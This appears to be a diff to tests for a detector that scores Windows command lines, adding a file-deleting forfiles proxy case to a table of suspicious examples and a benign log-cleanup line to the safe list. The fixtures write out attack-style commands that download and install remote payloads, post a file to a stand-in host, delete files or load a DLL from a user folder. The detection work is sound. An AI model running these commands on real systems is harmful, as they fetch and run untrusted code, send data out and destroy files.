@@ -43,6 +43,7 @@ def wincmd(name: str) -> str:
     ("wmic process get name /format:\"https://example.test/s.xsl\"", wincmd("signed_binary_proxy")),
     ("MpCmdRun.exe -DownloadFile -url https://example.test/a -path c:\\x\\a", wincmd("signed_binary_proxy")),
     ("forfiles /p c:\\windows\\system32 /m notepad.exe /c \"cmd /c calc\"", wincmd("signed_binary_proxy")),
+    ("forfiles /p c:\\windows\\system32 /m notepad.exe /c \"cmd /c del @path & calc\"", wincmd("signed_binary_proxy")),
     ("msiexec /q /i http://example.test/p.msi", wincmd("signed_binary_proxy")),
     ("certreq -Post -config https://example.test/ c:\\x\\in.txt out.txt", wincmd("signed_binary_proxy")),
     ("rundll32.exe %APPDATA%\\x.dll,Start", wincmd("user_writable_dll_loaded")),
@@ -111,6 +112,7 @@ def test_start_is_looked_through_to_the_program_it_starts() -> None:
     "netsh trace start scenario=internetclient capture=yes tracefile=c:\\temp\\net.etl",
     "echo url=http://localhost:8080/ > site.txt",
     "whoami\nhostname",
+    'forfiles /p "C:\\inetpub\\logs\\LogFiles" /s /m *.log /d -30 /c "cmd /c del @path"',
 ])
 def test_admin_and_build_lines_stay_under_the_suspicious_score(script: str) -> None:
     assert score(script, CMD) < SUSPICIOUS
